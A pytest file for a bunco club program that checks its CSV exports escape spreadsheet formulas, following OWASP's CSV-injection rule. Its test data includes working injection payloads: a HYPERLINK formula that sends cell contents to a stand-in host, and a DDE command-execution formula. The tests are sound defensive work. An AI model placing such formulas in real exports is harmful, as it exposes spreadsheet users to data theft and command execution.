"""cards.csv and the public season.csv: no cell a spreadsheet would run as a formula (OWASP's
CSV injection rule: a cell starting with = + - @ tab or CR is written after a ' )."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bunco_pi.cli import main
from bunco_pi.console.cards import cards_csv
from bunco_pi.csvcells import FORMULA_STARTS, from_cell, text_cell
from bunco_pi.season import load_nights, read_season_csv, season_csv, season_table

HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A1,"prize money")', "@SUM(A1:A9)",
           "+1 555 0100", "-2+3", "\t=1+1", "\r=1+1", "'=1+1", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("text", [*HOSTILE, "Ann", "O\u2019Brien", "", "'quoted'", "a=b"])
def test_a_text_cell_reads_back_as_written_and_never_starts_a_formula(text):
    cell = text_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert from_cell(cell) == text.replace("\r", "\n")
    if not text.startswith((*FORMULA_STARTS, "'")):
        assert cell == text  # an ordinary name is left as it is


@pytest.fixture
def hostile_record(tmp_path):
    path = tmp_path / "2026-03-06-club.json"
    assert main(["sim", "--players", "8", "--seed", "5", "--record", str(path)]) == 0
    record = json.loads(path.read_text(encoding="utf-8"))
    real = [p for p in record["players"] if not p["ghost"]]
    for player, name in zip(real, HOSTILE, strict=True):
        player["name"] = name
    record["prizes"][0]["name"] = "=1+2"
    path.write_text(json.dumps(record), encoding="utf-8")
    return path, record


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_cards_csv_writes_no_formula(hostile_record):
    _, record = hostile_record
    text = cards_csv(record)
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert sorted(from_cell(n) for n in names) == sorted(h.replace("\r", "\n") for h in HOSTILE)
    assert any(c.startswith("'=1+2") for c in cells)  # the prize's name too


def test_season_csv_writes_no_formula_and_reads_back(hostile_record):
    path, _ = hostile_record
    rows = season_table(load_nights(path.parent))
    text = season_csv(rows)
    assert not [c for c in _cells(text) if c.startswith(FORMULA_STARTS)]
    assert [r.name for r in read_season_csv(text)] == [r.name.replace("\r", "\n") for r in rows]
    assert sorted(r.name for r in rows) == sorted(HOSTILE)
